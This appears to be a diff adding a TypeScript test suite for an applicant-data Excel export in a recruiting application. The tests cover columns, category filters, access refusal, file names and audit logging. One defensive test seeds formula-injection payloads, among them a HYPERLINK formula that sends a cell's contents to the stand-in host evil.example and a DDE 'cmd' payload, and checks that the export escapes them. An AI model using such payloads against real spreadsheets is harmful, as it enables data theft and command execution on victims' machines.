@@ -1,0 +1,189 @@
+import assert from 'node:assert/strict';
+import { after, before, it } from 'node:test';
+import { XLSX_CONTENT_TYPE } from '@rec/core';
+import ExcelJS from 'exceljs';
+import type { LightMyRequestResponse } from 'fastify';
+import { newId } from '../../db/ids';
+import { DEMO_ACCOUNTS } from '../../seed/demo-accounts';
+import { DEMO, DEMO_PREFIX, demoId } from '../../seed/demo-ids';
+import { DEMO_OPENING_IDS } from '../../seed/demo-openings';
+import { type AuthTestApp, buildAuthTestApp, OWN_ORIGIN } from '../../testing/auth-helpers';
+import { describeEachBackend } from '../../testing/test-database';
+import { attachmentDisposition } from './content-disposition';
+
+const PERSONAL = ['First name', 'Last name', 'Email', 'Phone', 'Nationality', 'Birth date', 'Gender', 'Address'];
+const OPERATIONAL = ['Application ID', 'Applied at', 'Channel', 'Language', 'Referral code', 'Consent given at'];
+const PROFESSIONAL = ['Expected salary', 'Driving licenses', 'Work permit', 'CV file name'];
+
+/** The sheet's rows as arrays of cell values (exceljs rows are 1-based). */
+async function sheetRows(response: LightMyRequestResponse): Promise<unknown[][]> {
+  const workbook = new ExcelJS.Workbook();
+  await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
+  const sheet = workbook.worksheets[0];
+  assert.ok(sheet, 'one worksheet');
+  const rows: unknown[][] = [];
+  sheet.eachRow((row) => {
+    rows.push((row.values as unknown[]).slice(1));
+  });
+  return rows;
+}
+
+describeEachBackend('applicant data export', (context) => {
+  let t: AuthTestApp;
+  let owner = '';
+  let viewer = '';
+  before(async () => {
+    t = await buildAuthTestApp(context.db);
+    owner = await t.cookieFor(DEMO_ACCOUNTS.owner.id);
+    viewer = await t.cookieFor(DEMO_ACCOUNTS.viewer.id);
+  });
+  after(() => t.app.close());
+  const download = (openingId: string, query: string, cookie = owner) =>
+    t.app.inject({ url: `/v2/jobs/${openingId}/export/applications${query}`, headers: { cookie, origin: OWN_ORIGIN } });
+
+  it('streams one row per application with the columns of every chosen category', async () => {
+    const response = await download(DEMO_OPENING_IDS.published, '?categories[]=PERSONAL&categories[]=OPERATIONAL&categories[]=PROFESSIONAL');
+    assert.equal(response.statusCode, 200);
+    assert.equal(response.headers['content-type'], XLSX_CONTENT_TYPE);
+    assert.equal(response.headers['content-disposition'], 'attachment; filename="Candidates Data Mechatroniker:in Robotik (LR-MEC-007).xlsx"');
+    assert.equal(response.headers['cache-control'], 'private, no-store');
+    const rows = await sheetRows(response);
+    assert.deepEqual(rows[0], [...PERSONAL, ...OPERATIONAL, ...PROFESSIONAL]);
+    assert.equal(rows.length, 1 + 30);
+
+    const ids = await context.db
+      .selectFrom('applications as a')
+      .innerJoin('channels as c', 'c.id', 'a.channel_id')
+      .innerJoin('postings as p', 'p.id', 'c.posting_id')
+      .where('p.opening_id', '=', DEMO_OPENING_IDS.published)
+      .select(['a.id', 'a.form', 'a.created_at'])
+      .orderBy('a.created_at')
+      .orderBy('a.id')
+      .execute();
+    assert.deepEqual(
+      rows.slice(1).map((row) => row[8]),
+      ids.map((row) => row.id),
+      'every application once, oldest first',
+    );
+    const first = ids[0];
+    const firstRow = rows[1] ?? [];
+    const form = first?.form as Record<string, unknown>;
+    assert.deepEqual(firstRow.slice(0, 3), [form.firstName, form.lastName, form.email]);
+    assert.equal(firstRow[3], `'${form.phone}`, 'a phone number starting with + is text, escaped like any formula start');
+    assert.equal(firstRow[9], new Date(first?.created_at ?? 0).toISOString());
+    assert.ok(['SHARE', 'REFERRAL'].includes(String(firstRow[10])));
+    assert.equal(firstRow[14], Number(form.salary));
+    assert.equal(firstRow[17], (form.cv as { name: string }).name);
+  });
+
+  it('keeps only the chosen categories, in a fixed order', async () => {
+    const professional = await sheetRows(await download(DEMO_OPENING_IDS.published, '?categories[]=PROFESSIONAL&categories[]=PERSONAL'));
+    assert.deepEqual(professional[0], [...PERSONAL, ...PROFESSIONAL]);
+    const operational = await sheetRows(await download(DEMO_OPENING_IDS.published, '?categories=OPERATIONAL'));
+    assert.deepEqual(operational[0], OPERATIONAL);
+    assert.equal(operational.length, 31);
+  });
+
+  it('refuses a missing or unknown category, and the viewer', async () => {
+    for (const query of ['', '?categories[]=', '?categories[]=SECRET', '?categories[]=PERSONAL&categories[]=SECRET']) {
+      const response = await download(DEMO_OPENING_IDS.published, query);
+      assert.deepEqual(response.json(), { statusCode: 400, error: 'errors.invalidQuery' }, query);
+    }
+    assert.equal((await download(DEMO_OPENING_IDS.published, '?categories[]=PERSONAL', viewer)).statusCode, 403);
+  });
+
+  it('escapes formula-like values a candidate typed', async () => {
+    const { db } = context;
+    const channelId = demoId(DEMO_PREFIX.channel, 0x2000 + 0x63 * 0x10);
+    const candidateId = newId();
+    await db.insertInto('candidates').values({ id: candidateId, company_id: DEMO.companyId, email: 'mallory@example.org' }).execute();
+    const malicious = {
+      firstName: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+      lastName: '+SUM(1;2)',
+      email: 'mallory@example.org',
+      phone: '-1+1',
+      nationality: '@SUM(A1)',
+      birthDate: '\t=1+1',
+      gender: 'female',
+      address: '\r=cmd|\'/c calc\'!A1',
+      salary: '=1+1',
+      drivingLicenses: ['B'],
+      hasWorkPermit: 'yes',
+      cv: { url: '/v2/storage/000000000000000000000000', name: '=evil.pdf' },
+    };
+    const applicationId = newId();
+    await db
+      .insertInto('applications')
+      .values({
+        id: applicationId,
+        company_id: DEMO.companyId,
+        channel_id: channelId,
+        candidate_id: candidateId,
+        submission_id: 'malicious-1',
+        language: 'en',
+        form: malicious,
+        consent_given_at: new Date(),
+        consent_text: 'ok',
+      })
+      .execute();
+    const rows = await sheetRows(await download(DEMO_OPENING_IDS.publishedSmall, '?categories[]=PERSONAL&categories[]=OPERATIONAL&categories[]=PROFESSIONAL'));
+    const row = rows.find((cells) => cells[8] === applicationId);
+    assert.ok(row, 'the malicious application is exported');
+    assert.deepEqual(row.slice(0, 8), [
+      `'${malicious.firstName}`,
+      `'${malicious.lastName}`,
+      'mallory@example.org',
+      `'${malicious.phone}`,
+      `'${malicious.nationality}`,
+      `'${malicious.birthDate}`,
+      'female',
+      // XML reads a carriage return back as a line feed; the apostrophe is what matters.
+      `'${malicious.address.replace('\r', '\n')}`,
+    ]);
+    assert.deepEqual(row.slice(14), [`'=1+1`, 'B', 'yes', `'=evil.pdf`]);
+    for (const cell of rows.flat()) {
+      if (typeof cell === 'string') assert.doesNotMatch(cell, /^[=+\-@\t\r]/);
+      else assert.ok(cell === undefined || cell === null || typeof cell === 'number', `no formula or rich cell: ${JSON.stringify(cell)}`);
+    }
+  });
+
+  it('names the file after the title, with the reference code only when there is one (RFC 5987 for non-ASCII)', async () => {
+    const plain = await download(DEMO_OPENING_IDS.draft, '?categories[]=PERSONAL');
+    assert.equal(plain.headers['content-disposition'], 'attachment; filename="Candidates Data Data Engineer (Python/Spark) (LR-DATA-021).xlsx"');
+    const accented = await download(DEMO_OPENING_IDS.draftWithoutReference, '?categories[]=PERSONAL');
+    assert.equal(
+      accented.headers['content-disposition'],
+      `attachment; filename="Candidates Data Engenheiro_a_ de vis_o computacional.xlsx"; filename*=UTF-8''Candidates%20Data%20Engenheiro%28a%29%20de%20vis%C3%A3o%20computacional.xlsx`.replace(
+        'Engenheiro_a_',
+        'Engenheiro(a)',
+      ),
+    );
+    assert.deepEqual(await sheetRows(accented), [PERSONAL], 'no applications: the header row only');
+    assert.equal(attachmentDisposition('a"b\\c\r\nd.xlsx'), 'attachment; filename="a_b_c  d.xlsx"; filename*=UTF-8\'\'a%22b%5Cc%20%20d.xlsx');
+  });
+
+  it('records each export in the audit log, without personal data', async () => {
+    const { db } = context;
+    const before = await db.selectFrom('audit_log').select('id').execute();
+    const response = await download(DEMO_OPENING_IDS.published, '?categories[]=PERSONAL&categories[]=PROFESSIONAL');
+    assert.equal(response.statusCode, 200);
+    const rows = await db.selectFrom('audit_log').selectAll().where('id', 'not in', before.length ? before.map((row) => row.id) : ['']).execute();
+    assert.equal(rows.length, 1);
+    const entry = rows[0];
+    assert.deepEqual(
+      { company: entry?.company_id, actor: entry?.actor_id, action: entry?.action, opening: entry?.opening_id, details: entry?.details },
+      {
+        company: DEMO.companyId,
+        actor: DEMO_ACCOUNTS.owner.id,
+        action: 'opening.applications.export',
+        opening: DEMO_OPENING_IDS.published,
+        details: { categories: ['PERSONAL', 'PROFESSIONAL'], rowCount: 30 },
+      },
+    );
+    assert.ok(Date.now() - new Date(entry?.created_at ?? 0).getTime() < 60_000);
+    assert.doesNotMatch(JSON.stringify(entry), /@example\.org/);
+    // A refused export is not recorded.
+    await download(DEMO_OPENING_IDS.published, '?categories[]=PERSONAL', viewer);
+    assert.equal((await db.selectFrom('audit_log').select('id').execute()).length, before.length + 1);
+  });
+});
